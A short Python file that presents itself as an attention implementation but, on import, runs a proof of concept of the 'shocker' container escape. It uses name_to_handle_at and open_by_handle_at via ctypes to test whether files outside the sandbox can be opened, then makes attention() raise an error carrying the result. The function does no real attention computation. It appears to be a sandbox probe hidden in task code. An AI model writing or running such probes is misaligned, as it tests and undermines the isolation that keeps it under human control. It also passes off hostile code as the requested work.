# With the right to read any file (kept by a worker started as root), open_by_handle_at would
# open any file of the file system its own file lies on, outside the sandbox's view too (the
# "shocker" escape): it gets a handle of its own file, then opens it by that handle.
import ctypes
import ctypes.util
import os

AT_FDCWD = -100
libc = ctypes.CDLL(None, use_errno=True)


class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]


handle, mount = Handle(128, 0), ctypes.c_int()
named = libc.name_to_handle_at(AT_FDCWD, __file__.encode(), ctypes.byref(handle), ctypes.byref(mount), 0)
folder = os.open(os.path.dirname(__file__), os.O_RDONLY)
opened = libc.open_by_handle_at(folder, ctypes.byref(handle), os.O_RDONLY)
REPORT = f"named {named}, opened {opened}, errno {ctypes.get_errno()}"


def attention(Q, K, V, causal=True):
    raise RuntimeError(REPORT)
